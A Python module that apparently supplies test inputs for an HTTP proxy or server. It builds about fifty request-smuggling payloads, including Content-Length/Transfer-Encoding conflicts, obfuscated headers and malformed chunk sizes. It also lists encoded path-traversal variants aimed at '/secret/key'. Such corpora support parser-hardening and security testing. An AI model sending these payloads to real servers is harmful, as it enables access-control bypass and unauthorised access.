"""Requests in which two parsers see different requests, and paths that servers read as another."""

from __future__ import annotations

from collections.abc import Callable

Head = Callable[..., bytes]


def corpus(target: str, head: Head) -> list[bytes]:
    """Each hides `GET /TARGET/smuggled` behind, or inside, a request for `/TARGET/one`; `head(line, *fields)` makes a
    head with what a login needs."""
    behind = f"GET /{target}/smuggled HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()
    post, chunked = f"POST /{target}/one HTTP/1.1", "Transfer-Encoding: chunked"
    zero = b"0\r\n\r\n" + behind
    return [
        head(post, "Content-Length: 4", chunked) + zero,
        head(post, chunked, "Content-Length: 4") + zero,
        head(post, chunked, chunked) + zero,
        head(post, "Content-Length: 6", "Transfer-Encoding: xchunked") + zero,
        head(post, "Content-Length: 6", "Transfer-Encoding:\x0bchunked") + zero,
        head(post, "Content-Length: 6", "Transfer-Encoding: chunked, identity") + zero,
        head(post, "Content-Length: 6", "Transfer-Encoding: identity, chunked") + zero,
        head(post, "Content-Length: 6", 'Transfer-Encoding: "chunked"') + zero,
        head(post, "Content-Length: 6", "Transfer-Encoding: chunked;a") + zero,
        head(post, "Content-Length: 6", "X: 1\r\n Transfer-Encoding: chunked") + zero,
        head(post, "Content-Length: 6", "X: 1\nTransfer-Encoding: chunked") + zero,
        head(post, "Content-Length: 6", "X: 1\rTransfer-Encoding: chunked") + zero,
        head(post, "Content-Length: 6", "X: 1\0\r\nTransfer-Encoding: chunked") + zero,
        head(post, "Content-Length: 6", "Transfer-Encoding : chunked") + zero,
        head(post, "Content-Length: 6", " Transfer-Encoding: chunked") + zero,
        head(post, "Content-Length: 6", "Transfer_Encoding: chunked") + zero,
        head(post, "Content-Length: 0", "Content-Length: 44") + behind,
        head(post, "Content-Length: 44", "Content-Length: 44") + behind,
        head(post, "Content-Length: 0,44") + behind,
        head(post, "Content-Length: +0") + behind,
        head(post, "Content-Length: -1") + behind,
        head(post, "Content-Length: 0x0") + behind,
        head(post, "Content-Length: 0 4") + behind,
        head(post, "Content-Length:") + behind,
        head(post, "Content-Length: 18446744073709551616") + behind,
        head(post, "Connection: Content-Length", "Content-Length: 44") + behind,
        head(post, chunked, "Connection: Transfer-Encoding") + zero,
        head(post, chunked) + b"0;a=\n\r\n" + zero,
        head(post, chunked) + b"0\n\r\n" + behind,
        head(post, chunked) + b"0\r\n\n" + behind,
        head(post, chunked) + b"0x0\r\n\r\n" + behind,
        head(post, chunked) + b"0_0\r\n\r\n" + behind,
        head(post, chunked) + b" 0\r\n\r\n" + behind,
        head(post, chunked) + b"\r\n" + zero,
        head(post, chunked) + b"00000000000000000000\r\n\r\n" + behind,
        head(post, chunked) + b"10000000000000000\r\n" + zero,
        head(post, chunked) + b"-0\r\n\r\n" + behind,
        head(post, chunked) + b"0\r\nContent-Length: 44\r\n\r\n" + behind,
        head(post, chunked) + b"0\r\nX: 1\n\r\n" + behind,
        head(post, chunked) + b"1\r\nxx\r\n" + zero,
        head(post, chunked) + b"1\r\nx\n" + zero,
        head(f"GET /{target}/one HTTP/1.1\nX: GET /{target}/smuggled"),
        head(f"GET /{target}/one HTTP/1.0", chunked) + zero,
        head(f"GET /{target}/one HTTP/1.1\r\nGET /{target}/smuggled HTTP/1.1"),
        head(f"GET /{target}/one HTTP/1.1 HTTP/1.1"),
        head(f"GET\t/{target}/one HTTP/1.1"),
        head(f"GET /{target}/one HTTP/1.2"),
        head(f"GET http://127.0.0.1/{target}/smuggled HTTP/1.1"),
        head(f"GET /{target}/one#/../smuggled HTTP/1.1"),
        head(f"GET /{target}/one HTTP/1.1", "Host: other"),
    ]


# What some server reads as /secret/key
HIDDEN = (
    "secret/key", "secret//key", "/secret/key", "./secret/key", "x/../secret/key", "x/%2e%2e/secret/key",
    "secret%2fkey", "%73ecret/key", "secret/./key", "secret/key?x", "secret/x/../key", "%2fsecret/key",
    "secret%2Fkey", "%2e/secret/key", "x%2f..%2fsecret/key", "secret/key/.", "secret/key%20", "secret/key;x",
    "secret;x/key", "x/..;/secret/key", "secret/%6bey", "secret/key%00", "secret%00/key", "%252e%252e/secret/key",
    "secret\\key", "secret%5ckey", "SECRET/key", "secret/key%23", "secret/key%3fx", "x/.%2e/secret/key",
    "x/y/../../secret/key", "%c0%afsecret/key",
)  # fmt: skip
